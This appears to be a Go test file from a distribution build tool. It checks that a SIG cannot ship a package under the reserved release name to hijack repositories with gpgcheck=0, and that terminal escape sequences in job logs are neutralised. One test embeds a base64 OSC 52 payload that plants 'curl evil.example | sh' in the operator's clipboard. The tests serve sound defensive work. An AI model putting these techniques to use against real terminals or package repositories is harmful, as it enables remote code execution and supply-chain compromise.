package main_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestAttackSIGReleasePackageByName: a SIG whose spec has a subpackage
// named <distro>-release-<sig> (the core-built release package's name,
// at Epoch 1) ships /etc/yum.repos.d/<distro>-sig-<sig>.repo of its own
// writing, redefining pebble-baseos with gpgcheck=0: the release
// exemption of no-package-manager-paths goes by the RPM's name, not by
// the job that built it. It must fail the SIG; it is published, signed
// with the SIG's key, where dnf upgrades the real release package to it.
func TestAttackSIGReleasePackageByName(t *testing.T) {
	slow(t)
	t.Parallel()
	d := newDistro(t)
	d.only([]string{"banner"}, nil)
	d.editConfig("arches: [x86_64, aarch64, ppc64le, s390x]", "arches: [x86_64]")
	d.keyInit()
	bin := filepath.Join(d.dir, "bin")
	buildSIG(t, bin, "sigrelease", "./testing/plugins/sigrelease")
	raw, _ := os.ReadFile(d.config())
	d.writeConfig(string(raw) + "sigs:\n  - name: sigrelease\n")
	d.mustRun("plugin", "lock")
	d.mustRun("key", "init", "--bits", "2048", "--sig", "sigrelease")
	stdout, stderr, code := d.run("build")
	t.Logf("exit %d\n%s\n%s", code, stdout, stderr)
	cur := filepath.Join(d.out(), "current")
	rpms, _ := filepath.Glob(filepath.Join(cur, "sig", "sigrelease", "*", "*", "Packages", "*", "*-release-sigrelease-*.rpm"))
	for _, r := range rpms {
		out, _ := exec.Command("rpm", "-qp", "--nosignature", "-l", "--qf", "%{NAME} %{EPOCH}:%{VERSION}-%{RELEASE}\n", r).CombinedOutput()
		t.Errorf("the SIG's own %s is published in its repository:\n%s", filepath.Base(r), out)
	}
	if !strings.Contains(stderr, "sig sigrelease: package sigrelease-tools (subpackage pebble-release-sigrelease): no-core-name: pebble-release-sigrelease is reserved") {
		t.Errorf("sig sigrelease did not fail naming the reserved name")
	}
	// A machine that opted in: both the SIG release repository and the
	// SIG's. dnf takes the higher epoch, and the SIG's .repo file.
	repos, _ := filepath.Glob(filepath.Join(cur, "sig", "*", "*", "x86_64", "repodata"))
	if len(repos) == 0 {
		return // no SIG repository at all: nothing of it reaches a machine
	}
	var conf strings.Builder
	for i, r := range repos {
		conf.WriteString(fmt.Sprintf("[t%d]\nname=t%d\nbaseurl=file://%s\ngpgcheck=0\n\n", i, i, filepath.Dir(r)))
	}
	root := filepath.Join(t.TempDir(), "root")
	reposd := filepath.Join(root, "..", "repos.d")
	os.MkdirAll(reposd, 0o755)
	os.WriteFile(filepath.Join(reposd, "t.repo"), []byte(conf.String()), 0o644)
	out, err := exec.Command("dnf", "-y", "--installroot", root, "--releasever", "9", "--setopt=reposdir="+reposd,
		"--setopt=cachedir="+filepath.Join(root, "..", "cache"), "install", "pebble-release-sigrelease").CombinedOutput()
	if err != nil {
		t.Fatalf("dnf: %v\n%s", err, out)
	}
	if data, _ := os.ReadFile(filepath.Join(root, "etc", "yum.repos.d", "pebble-sig-sigrelease.repo")); strings.Contains(string(data), "mirror.invalid") {
		t.Errorf("dnf installed the SIG's pebble-release-sigrelease; the machine's repository file is now the SIG's:\n%s", data)
	}
}

// TestAttackLogEscapesReachTheTerminal: a failing job's log tail is
// printed to the operator's stderr as the job wrote it. A job that prints
// terminal escapes (here: set the window title, erase the line and move
// up, OSC 52 to set the clipboard) drives the operator's terminal: it can
// hide its own failure or plant a command in the clipboard.
func TestAttackLogEscapesReachTheTerminal(t *testing.T) {
	slow(t)
	t.Parallel()
	d := newDistro(t)
	d.only([]string{"banner"}, nil)
	d.editConfig("arches: [x86_64, aarch64, ppc64le, s390x]", "arches: [x86_64]")
	d.keyInit()
	d.publish(hostileSpec("escaper", "", `printf '\033]0;all good\007\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\007\033[2K\033[1Aok\n'; exit 1`))
	d.only([]string{"banner", "escaper"}, []string{"escaper"})
	_, stderr, code := d.run("build")
	if code == 0 {
		t.Fatal("a failing job: exit 0")
	}
	if strings.Contains(stderr, "\x1b]52;") || strings.Contains(stderr, "\x1b]0;") {
		t.Errorf("the job's terminal escapes reached stderr unescaped: %q", stderr[max(0, strings.Index(stderr, "\x1b")-80):min(len(stderr), strings.Index(stderr, "\x1b")+120)])
	}
}
